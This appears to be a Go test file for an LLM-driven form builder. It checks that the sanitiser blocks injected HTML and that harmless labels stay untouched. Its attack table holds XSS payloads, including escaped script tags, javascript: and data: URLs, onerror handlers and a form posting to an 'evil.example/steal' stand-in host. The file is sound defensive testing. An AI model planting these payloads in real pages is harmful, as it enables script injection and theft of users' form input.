package hosha2

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/arshline/arshline-sidecar/daemon/document"
	"github.com/arshline/arshline-sidecar/daemon/domain"
	"github.com/arshline/arshline-sidecar/daemon/llm/llmtest"
)

// withRaw puts raw (JSON string content, escapes and all) where the
// marker is in the model's answer, so escapes reach the check exactly as
// a model would send them.
func withRaw(content, raw string) string {
	return strings.Replace(content, "@@RAW@@", raw, 1)
}

// decoded is what raw means once the JSON string is decoded.
func decoded(t *testing.T, raw string) string {
	var s string
	if err := json.Unmarshal([]byte(`"`+raw+`"`), &s); err != nil {
		t.Fatalf("%s: %v", raw, err)
	}
	return s
}

// attacks are written as JSON string contents, each escape as the model
// would send it.
var attacks = []struct{ name, raw string }{
	{"unicode-escaped <script", `\u003Cscript>alert(1)\u003C/script>`},
	{"escaped s in script", `<\u0073cript>alert(1)</script>`},
	{"escaped o in onerror", `<img src=\"https://x.example/a.png\" \u006fnerror=alert(1)>`},
	{"escaped s in javascript:", `<a href=\"java\u0073cript:alert(1)\">x</a>`},
	{"tab entity in javascript:", `<a href=\"java&#9;script:alert(1)\">x</a>`},
	{"data:text/html", `<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>`},
	{"object", `<object data=\"https://evil.example/x.swf\"></object>`},
	{"form action", `<form action=\"https://evil.example/steal\"><input name=p></form>`},
	{"style expression", `<p style=\"width: expression(alert(1))\">x</p>`},
}

// In an html field every attack is blocked as UNSAFE_OUTPUT and nothing
// is stored; in a label it is plain text, kept verbatim and escaped by
// whoever renders it, so it cannot run.
func TestAttacksAfterDecoding(t *testing.T) {
	for _, a := range attacks {
		t.Run("html/"+a.name, func(t *testing.T) {
			content := withRaw(answer([]map[string]any{field("f1", "html", "x", map[string]any{"html": "@@RAW@@"})}, nil), a.raw)
			e := setup(t, nil, llmtest.Reply{Content: content})
			_, err := e.svc.Generate(ctxReq("aaaa01"), GenerateParams{FormID: e.form, Prompt: prompt("فرم"), Wait: true})
			if domain.ErrorCode(err) != domain.CodeUnsafeOutput {
				t.Fatalf("got %v, want UNSAFE_OUTPUT", err)
			}
			if vs, _ := e.db.ListVersions(context.Background(), 1, e.form, 10, 0); len(vs) != 1 {
				t.Fatalf("a blocked answer wrote %d versions", len(vs)-1)
			}
		})
		t.Run("label/"+a.name, func(t *testing.T) {
			content := withRaw(answer([]map[string]any{field("f1", "text", "@@RAW@@", nil)}, nil), a.raw)
			e := setup(t, nil, llmtest.Reply{Content: content})
			out, err := e.svc.Generate(ctxReq("aaaa02"), GenerateParams{FormID: e.form, Prompt: prompt("فرم"), Wait: true})
			if err != nil {
				t.Fatal(err)
			}
			if got := out.(*SuccessBody).Data.FinalForm.Fields[0]["label"]; got != decoded(t, a.raw) {
				t.Fatalf("label changed: %q", got)
			}
		})
	}
}

// Entities that spell a tag once the tags between them are stripped: a
// sanitiser that strips tags and then decodes entities turns this into a
// live <script>. It must stay escaped text.
func TestEntityAfterTagsStaysText(t *testing.T) {
	raw := `&lt;scr<b></b>ipt&gt;alert(1)&lt;/scr<b></b>ipt&gt;`
	content := withRaw(answer([]map[string]any{field("f1", "html", "x", map[string]any{"html": "@@RAW@@"})}, nil), raw)
	e := setup(t, nil, llmtest.Reply{Content: content})
	out, err := e.svc.Generate(ctxReq("aaaa03"), GenerateParams{FormID: e.form, Prompt: prompt("فرم"), Wait: true})
	if err != nil {
		t.Fatal(err)
	}
	h := out.(*SuccessBody).Data.FinalForm.Fields[0]["html"].(string)
	if strings.Contains(strings.ToLower(h), "<script") || len(document.HTMLThreats(h)) > 0 || document.SanitizeHTML(h) != h {
		t.Fatalf("stored html is live or unsanitised: %q", h)
	}
	f, _ := e.db.GetForm(context.Background(), 1, e.form)
	if f.Document.Fields[0]["html"] != h {
		t.Fatalf("stored %q, answered %q", f.Document.Fields[0]["html"], h)
	}
}

// Text that only talks about tags or schemes is accepted and kept as
// written.
func TestHarmlessLabelsKeptVerbatim(t *testing.T) {
	labels := []string{"JavaScript: مقدمه‌ای بر زبان", "online = آنلاین", "<iframe> or <div>?", "a < b && c > d", "onion=پیاز"}
	fields := make([]map[string]any, len(labels))
	for i, l := range labels {
		fields[i] = field("f"+string(rune('1'+i)), "text", l, map[string]any{"help_text": l, "placeholder": l})
	}
	fields = append(fields, field("f9", "radio", "<div>?", map[string]any{"options": []map[string]any{{"value": "o1", "label": "<iframe>"}, {"value": "o2", "label": "JavaScript:"}}}))
	e := setup(t, nil, llmtest.Reply{Content: answer(fields, nil)})
	out, err := e.svc.Generate(ctxReq("aaaa04"), GenerateParams{FormID: e.form, Prompt: prompt("فرم"), Wait: true})
	if err != nil {
		t.Fatal(err)
	}
	got := out.(*SuccessBody).Data.FinalForm.Fields
	for i, l := range labels {
		if got[i]["label"] != l || got[i]["help_text"] != l || got[i]["placeholder"] != l {
			t.Fatalf("field %d changed: %v", i, got[i])
		}
	}
	opts, _ := json.Marshal(got[len(labels)]["options"])
	if !strings.Contains(string(opts), `"label":"\u003ciframe\u003e"`) {
		t.Fatalf("option label changed: %s", opts)
	}
}

// The capabilities map and the model's schema come from the document
// schema: nothing advertised that Parse refuses.
func TestCapabilitiesGeneratedFromSchema(t *testing.T) {
	var caps map[string]any
	if err := json.Unmarshal(Capabilities(), &caps); err != nil {
		t.Fatal(err)
	}
	for _, gone := range []string{"appearance", "submission", "validation"} {
		if _, ok := caps[gone]; ok {
			t.Errorf("capabilities still advertise %s", gone)
		}
	}
	if logic, _ := caps["logic"].(map[string]any); logic["scoring"] != nil || logic["branching"] != nil || logic["calculation"] != nil {
		t.Errorf("logic the document cannot hold: %v", logic)
	}
	var rs map[string]any
	if err := json.Unmarshal(responseSchema, &rs); err != nil {
		t.Fatal(err)
	}
	props := rs["properties"].(map[string]any)["final_form"].(map[string]any)["properties"].(map[string]any)["fields"].(map[string]any)["items"].(map[string]any)["properties"].(map[string]any)
	for _, k := range []string{"show_if", "page", "format", "calendar", "rows", "cols", "accept", "min_select", "unique"} {
		if props[k] == nil {
			t.Errorf("model schema lacks %s", k)
		}
	}
	t.Run("unique on text and email only", func(t *testing.T) {
		fields, _ := caps["fields"].([]any)
		var with []string
		for _, f := range fields {
			m := f.(map[string]any)
			for _, k := range m["keys"].([]any) {
				if k == "unique" {
					with = append(with, m["type"].(string))
				}
			}
		}
		if strings.Join(with, ",") != "text,email" {
			t.Fatalf("unique advertised on %v, want text and email", with)
		}
	})
}
